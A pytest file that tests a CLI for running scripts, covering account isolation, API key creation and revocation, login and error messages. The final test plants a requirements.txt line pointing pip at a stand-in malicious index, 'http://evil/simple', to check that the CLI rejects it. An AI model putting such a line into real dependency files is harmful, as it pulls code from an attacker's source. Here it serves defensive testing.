"""Accounts through the CLI, and the errors a user can cause."""

from __future__ import annotations

import re
import secrets

import pytest

from tests.conftest import write_script


def test_account_b_cannot_see_account_a_execution_or_logs(rgrid, admin_key, tmp_path):
    write_script(tmp_path, "secret.py", "print('for A only')\n")
    execution_id = rgrid("run", "secret.py", "--json").json()["id"]

    created = rgrid("accounts", "create", "account-b", "--admin-key", admin_key)
    assert created.exit_code == 0, created.stderr
    key_b = created.stdout.strip()
    assert re.fullmatch(r"sk_[A-Za-z0-9_-]{43}", key_b), "the key alone on stdout"
    assert "shown once" in created.stderr
    as_b = rgrid.with_env(RGRID_API_KEY=key_b)

    for command in (("status", execution_id), ("logs", execution_id)):
        result = as_b(*command)
        assert result.exit_code == 1
        assert "not found" in result.stderr
        assert "for A only" not in result.stdout
    assert as_b("list", "--json").json() == []


def test_keys_are_created_alone_on_stdout_listed_and_revoked_at_once(rgrid, admin_key):
    created = rgrid("accounts", "create", f"keys-{secrets.token_hex(3)}", "--admin-key",
                    admin_key)
    as_owner = rgrid.with_env(RGRID_API_KEY=created.stdout.strip())
    made = as_owner("keys", "create", "ci-runner", "--expires-in-days", "30")
    assert made.exit_code == 0, made.stderr
    new_key = made.stdout.strip()
    assert re.fullmatch(r"sk_[A-Za-z0-9_-]{43}", new_key)
    assert "ci-runner" in made.stderr and "shown once" in made.stderr
    as_new = rgrid.with_env(RGRID_API_KEY=new_key)
    listed = as_new("keys", "list", "--json").json()
    assert [k["name"] for k in listed] == ["default", "ci-runner"]
    assert listed[1]["expires_at"] is not None and new_key not in str(listed)
    table = as_new("keys", "list").stdout
    assert "ci-runner" in table and "live" in table and new_key not in table

    revoked = as_owner("keys", "revoke", listed[1]["id"])
    assert revoked.exit_code == 0 and "revoked" in revoked.stdout
    refused = as_new("list")
    assert refused.exit_code == 1 and "was revoked" in refused.stderr
    bad = as_owner("keys", "create", "has space")
    assert bad.exit_code == 2 and "name" in bad.stderr


def test_login_stores_a_checked_key(rgrid, stack, tmp_path):
    key = rgrid.config.read_text()
    other_config = tmp_path / "other.json"
    fresh = rgrid.with_env(RGRID_CONFIG=str(other_config))
    bad = fresh("login", "--api-key", "sk_bad", "--api-url", stack.settings.api_url)
    assert bad.exit_code == 1 and "not valid" in bad.stderr
    assert not other_config.exists()
    good_key = re.search(r'"api_key": "([^"]+)"', key).group(1)
    good = fresh("login", "--api-key", good_key, "--api-url", stack.settings.api_url)
    assert good.exit_code == 0, good.stderr
    assert oct(other_config.stat().st_mode & 0o777) == "0o600"
    assert fresh("list").exit_code == 0


@pytest.mark.parametrize(("args", "message", "hint"), [
    (("run", "missing.py"), "File not found: missing.py.", "Check the path and try again."),
    (("run", "ok.py", "--env", "NOEQUALS"), "Invalid --env value", "NAME=VALUE"),
    (("run", "ok.py", "--env", "PATH=/nowhere"), "PATH is set by the runtime",
     "Choose another name"),
    (("run", "ok.py", "--env", "1ST=x"), "Invalid environment variable name: '1ST'",
     "does not start with a digit"),
    (("run", "ok.py", "--memory", "lots"), "Invalid memory limit", "512m"),
    (("run", "ok.py", "--runtime", "cobol"), "Unknown runtime: 'cobol'.", "python3.11"),
    (("run", "notes.txt"), "Cannot tell the runtime", "--runtime"),
])
def test_user_errors_name_the_cause_and_the_fix(rgrid, tmp_path, args, message, hint):
    write_script(tmp_path, "ok.py", "print('ok')\n")
    write_script(tmp_path, "notes.txt", "text\n")
    result = rgrid(*args)
    assert result.exit_code != 0
    assert message in result.stderr and hint in result.stderr
    assert "Traceback" not in result.stderr


def test_unreachable_api_says_how_to_start_it(rgrid):
    result = rgrid("list", RGRID_API_URL="http://127.0.0.1:9")
    assert result.exit_code == 1
    assert "RGrid API not reachable at http://127.0.0.1:9." in result.stderr
    assert "scripts/dev up" in result.stderr
    assert "Traceback" not in result.stderr


def test_bad_api_key_is_refused_clearly(rgrid):
    result = rgrid("list", RGRID_API_KEY="sk_wrong")
    assert result.exit_code == 1
    assert "The API key is not valid." in result.stderr and "rgrid login" in result.stderr


def test_missing_api_key_says_how_to_log_in(rgrid, tmp_path):
    result = rgrid("list", RGRID_CONFIG=str(tmp_path / "none.json"))
    assert result.exit_code == 1
    assert "No API key is configured." in result.stderr


def test_dev_up_again_reports_what_is_already_running(stack):
    lines: list[str] = []
    type(stack)(stack.settings, say=lines.append).up()
    assert any("prefect-server already running" in line for line in lines)
    assert any("api already running" in line for line in lines)
    assert any("worker already running" in line for line in lines)
    assert any("CLI logged in" in line for line in lines)


def test_a_requirements_file_reaching_outside_the_index_is_refused_before_submission(
        rgrid, tmp_path):
    write_script(tmp_path, "ok.py", "print('ok')\n")
    (tmp_path / "requirements.txt").write_text("pandas==2.2.3\n--index-url http://evil/simple\n")
    before = rgrid("list", "--json", "--limit", "500").json()

    result = rgrid("run", "ok.py")

    assert result.exit_code == 2
    assert "requirements.txt, line 2: the pip option --index-url is not allowed." in result.stderr
    assert "e.g. `pandas==2.2.3`" in result.stderr and "Traceback" not in result.stderr
    assert rgrid("list", "--json", "--limit", "500").json() == before, "nothing submitted"
